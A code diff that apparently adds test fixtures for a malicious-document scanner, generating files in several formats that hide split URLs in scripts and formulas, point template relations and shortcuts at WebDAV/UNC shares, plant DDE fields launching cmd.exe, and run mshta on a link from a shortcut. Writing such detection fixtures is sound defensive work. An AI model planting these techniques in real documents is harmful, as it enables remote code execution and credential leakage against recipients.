@@ -322,6 +322,44 @@ def shortcut(arguments):
     return head.ljust(76, b'\0') + struct.pack('<H', len(arguments)) + text + bytes(4)
 
 
+def pieces(link):
+    """Strings that a program or a formula puts together."""
+    text = link.decode()
+    yield 'script in pieces', 'a.js', f"var u='{text[:3]}' + '{text[3:15]}'+\n\t'{text[15:]}';open(u);".encode()
+    yield 'script in small pieces', 'a.js', ('u=' + '+'.join(f'"{c}"' for c in text)).encode()
+    yield 'VBScript in pieces', 'a.vbs', f'x = "{text[:2]}" & "{text[2:9]}" & _\r\n "{text[9:]}"\r\n'.encode()
+    yield 'PowerShell in pieces', 'a.ps1', f"iwr ('{text[:4]}'+\"{text[4:8]}\"+'{text[8:]}')".encode()
+    yield 'formula in pieces', 'a.xlsx', docx([('xl/worksheets/sheet1.xml', '<worksheet><c r="A1"><f>HYPERLINK('
+                                                f'"{text[:6]}"&amp;"{text[6:]}","x")</f></c></worksheet>')])
+    yield 'macro in pieces', 'a.doc', ole_file(Storage({'Macros': macro_project(
+        f'a = "{text[:5]}" & _\r\n "{text[5:]}"\r\n'.encode())}))
+    yield 'script of a PDF in pieces', 'a.pdf', pdf((b'/S/JavaScript/JS(app.launchURL\\("' + link[:7] + b'"+"' +
+                                                     link[7:] + b'"\\))', None))
+
+
+def shares(host):
+    path = f'\\\\{host}@SSL\\DavWWWRoot\\a.dotm'
+    yield 'share in a relation', 'a.docx', docx([('word/_rels/settings.xml.rels', relation(path, 'attachedTemplate'))])
+    yield 'file in a relation', 'a.docx', docx([('word/_rels/settings.xml.rels', relation(
+        f'file://{host}/x/a.dotm', 'attachedTemplate'))])
+    yield 'share in a link file', 'a.lnk', shortcut(path)
+    yield 'share in a document', 'a.doc', ole_file(Storage({'WordDocument': b'\x13INCLUDEPICTURE ' + path.encode()}))
+    yield 'share in a PDF', 'a.pdf', pdf((b'/S/GoToE/F(' + path.replace('\\', '\\\\').encode() + b')', None))
+    yield 'share in a theme', 'a.theme', f'[Theme]\r\nBrandImage={path}\r\n'.encode()
+
+
+def commands():
+    """Fields that start a program without any macro (DDE)."""
+    field = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
+    yield 'field in docx', 'a.docx', docx([('word/document.xml', f'<w:fldSimple w:instr=\'{field}\'/>')])
+    yield 'field in docx over runs', 'a.docx', docx([(
+        'word/document.xml', f'<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>{field[3:]}</w:instrText></w:r>')])
+    yield 'link of a sheet', 'a.xlsx', docx([('xl/externalLinks/externalLink1.xml',
+                                              '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/>')])
+    yield 'field in RTF', 'a.rtf', b'{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO ' + field[8:].encode() + b'}}}}'
+    yield 'field in doc', 'a.doc', ole_file(Storage({'WordDocument': b'x' * 600 + b'\x13 ' + field.encode() + b'\x15'}))
+
+
 def plain_links(link):
     text = link.decode()
     yield 'link file', 'a.lnk', shortcut(f'/c mshta {text}')
